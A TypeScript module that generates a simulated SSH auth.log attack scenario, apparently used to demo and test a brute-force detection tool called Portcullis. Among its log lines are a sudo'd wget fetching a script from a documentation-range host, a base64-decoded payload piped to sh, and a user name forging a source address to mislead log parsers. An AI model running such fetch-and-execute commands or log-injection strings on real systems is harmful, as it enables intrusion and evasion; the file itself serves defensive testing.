/**
 * A simulated attack scenario on one SSH host, as auth.log lines: benign logins and sudo use, and the attacks
 * Portcullis' built-in rules detect (a burst brute force, a slow brute force under the burst threshold, password
 * spraying, an IPv6 attacker rotating addresses inside one /64, a guessed password (failures then success), a
 * user name carrying a forged address, rsyslog's repeated-message reduction, pre-auth scanners, dangerous
 * commands run through sudo, and a local script failing over loopback (never banned). Deterministic for a given
 * seed; used for `samples/auth.log` and `portcullis demo`.
 *
 * Attackers use documentation ranges (RFC 5737 203.0.113.0/24 and 198.51.100.0/24, RFC 3849 2001:db8::/32),
 * but not 192.0.2.0/24: test machines often have an address there, and a host's own addresses are never banned.
 */
import { mulberry32 } from "../core/random.ts";

const V6_NET = "2001:db8:beef:1";

/** Who does what in the scenario (tests and the demo's attacker namespace refer to these). */
export const ACTORS = {
  /** The first burst brute force; under `demo --enforce`, the attacker namespace's IPv4 address. */
  burst: "203.0.113.23",
  /** The second burst brute force. */
  burst2: "203.0.113.77",
  /** One failure every 3 minutes: under the burst threshold, caught by the slow rule. */
  slow: "203.0.113.88",
  /** A new invalid user name every 4 minutes. */
  spraying: "198.51.100.200",
  /** The IPv6 attacker's first address; it rotates inside {@link ACTORS.ipv6Prefix}. */
  ipv6: `${V6_NET}::1`,
  ipv6Prefix: `${V6_NET}::/64`,
  /** Guesses carol's password, then runs a download and a decoded payload through sudo. */
  guessed: "203.0.113.150",
  /** The address a forged user name claims (`for invalid user x from 192.0.2.1 ...`); never the source. */
  forgedClaimed: "192.0.2.1",
  /** The real source of the forged lines. */
  forgedReal: "203.0.113.140",
  /** Five failures through rsyslog's "message repeated 4 times". */
  repeated: "203.0.113.99",
  /** A local script with a stale password: loopback is always allowlisted. */
  local: "127.0.0.1",
} as const;

export interface ScenarioLine {
  /** Seconds since the scenario start. */
  at: number;
  /** The syslog message part: `prog[pid]: message`. */
  text: string;
}

const USERS = ["alice", "bob", "carol", "deploy"];
const INVALID = [
  "admin",
  "test",
  "oracle",
  "ubuntu",
  "pi",
  "guest",
  "postgres",
  "git",
  "ftp",
  "support",
  "user",
  "www",
];

export function scenario(seed = 1, span = 3600): ScenarioLine[] {
  const r = mulberry32(seed);
  const out: ScenarioLine[] = [];
  let pid = 4000;
  const port = () => 30000 + Math.floor(r() * 30000);
  const sshd = (at: number, p: number, msg: string) => out.push({ at, text: `sshd[${p}]: ${msg}` });

  // Benign: interactive logins, sessions, sudo, cron.
  for (let t = 30; t < span; t += 180 + Math.floor(r() * 240)) {
    const u = USERS[Math.floor(r() * USERS.length)]!;
    const p = ++pid;
    const ip = `198.51.100.${10 + Math.floor(r() * 5)}`;
    if (r() < 0.2) sshd(t, p, `Failed password for ${u} from ${ip} port ${port()} ssh2`);
    sshd(
      t + 2,
      p,
      `Accepted publickey for ${u} from ${ip} port ${port()} ssh2: ED25519 SHA256:${"k".repeat(43)}`,
    );
    sshd(t + 2, p, `pam_unix(sshd:session): session opened for user ${u}(uid=1001) by (uid=0)`);
    if (r() < 0.5) {
      out.push({
        at: t + 20,
        text: `sudo:    ${u} : TTY=pts/0 ; PWD=/home/${u} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`,
      });
    }
    sshd(t + 90, p, `pam_unix(sshd:session): session closed for user ${u}`);
  }
  for (let t = 0; t < span; t += 600) {
    out.push({
      at: t,
      text: `CRON[${++pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
    });
  }

  // Burst brute force: 3 parallel connections, 6 tries each, from one address.
  const burst = (at: number, ip: string, users: string[]) => {
    for (let c = 0; c < 3; c++) {
      const p = ++pid;
      const pt = port();
      for (let i = 0; i < 6; i++) {
        const u = users[(c + i) % users.length]!;
        const invalid = !USERS.includes(u) && u !== "root";
        if (invalid && i === 0) sshd(at + c * 2, p, `Invalid user ${u} from ${ip} port ${pt}`);
        sshd(
          at + c * 2 + i * 3,
          p,
          `Failed password for ${invalid ? "invalid user " : ""}${u} from ${ip} port ${pt} ssh2`,
        );
      }
      sshd(
        at + c * 2 + 20,
        p,
        `Disconnecting authenticating user root ${ip} port ${pt}: Too many authentication failures [preauth]`,
      );
    }
  };
  burst(120, ACTORS.burst, ["root", "admin", "test"]);
  burst(1500, ACTORS.burst2, ["root"]);

  // Slow brute force: one failure every 3 minutes (under 5 in 10 minutes) for 50 minutes.
  for (let t = 200, i = 0; t < Math.min(span, 3200); t += 180, i++) {
    sshd(t, ++pid, `Failed password for root from ${ACTORS.slow} port ${port()} ssh2`);
  }

  // Password spraying, slowly: a new user name every 4 minutes.
  for (let t = 300, i = 0; i < 10 && t < span; t += 240, i++) {
    const p = ++pid;
    sshd(t, p, `Invalid user ${INVALID[i]!} from ${ACTORS.spraying} port ${port()}`);
  }

  // IPv6 attacker rotating addresses inside one /64.
  for (let i = 0; i < 7; i++) {
    sshd(
      900 + i * 20,
      ++pid,
      `Failed password for root from ${V6_NET}::${(i + 1).toString(16)} port ${port()} ssh2`,
    );
  }

  // Failures then success (a guessed password), then a dangerous command.
  for (let i = 0; i < 3; i++)
    sshd(2000 + i * 60, ++pid, `Failed password for carol from ${ACTORS.guessed} port ${port()} ssh2`);
  sshd(2200, ++pid, `Accepted password for carol from ${ACTORS.guessed} port ${port()} ssh2`);
  out.push({
    at: 2260,
    text: "sudo:    carol : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.66/x.sh -O /tmp/.x",
  });
  out.push({
    at: 2270,
    text: "sudo:    carol : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c echo Y3VybCBldmls | base64 -d | sh",
  });

  // A forged address in the user name: the real source is ACTORS.forgedReal.
  for (let i = 0; i < 5; i++) {
    sshd(
      2500 + i * 10,
      ++pid,
      `Failed password for invalid user x from ${ACTORS.forgedClaimed} port 22 ssh2 from ${ACTORS.forgedReal} port ${port()} ssh2`,
    );
  }

  // rsyslog repeated-message reduction: 1 + 4 = 5 failures.
  const rp = ++pid;
  sshd(2800, rp, `Failed password for root from ${ACTORS.repeated} port 41000 ssh2`);
  sshd(
    2830,
    rp,
    `message repeated 4 times: [ Failed password for root from ${ACTORS.repeated} port 41000 ssh2]`,
  );

  // Pre-auth scanners (not authentication failures).
  for (let i = 0; i < 25 && 100 + i * 30 < span; i++) {
    const p = ++pid;
    sshd(100 + i * 30, p, `Connection closed by 198.51.100.${150 + (i % 3)} port ${port()} [preauth]`);
  }

  // A local backup script with a stale password: five failures over loopback, refused by the policy.
  for (let i = 0; i < 5; i++) {
    sshd(3300 + i * 5, ++pid, `Failed password for backup from ${ACTORS.local} port ${port()} ssh2`);
  }

  return out.filter((l) => l.at < span).sort((a, b) => a.at - b.at);
}

const MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** Formats a line in classic syslog form (UTC wall time). */
export function syslogLine(start: number, host: string, l: ScenarioLine): string {
  const d = new Date(start + l.at * 1000);
  const p2 = (n: number) => String(n).padStart(2, "0");
  const stamp = `${MON[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
  return `${stamp} ${host} ${l.text}`;
}
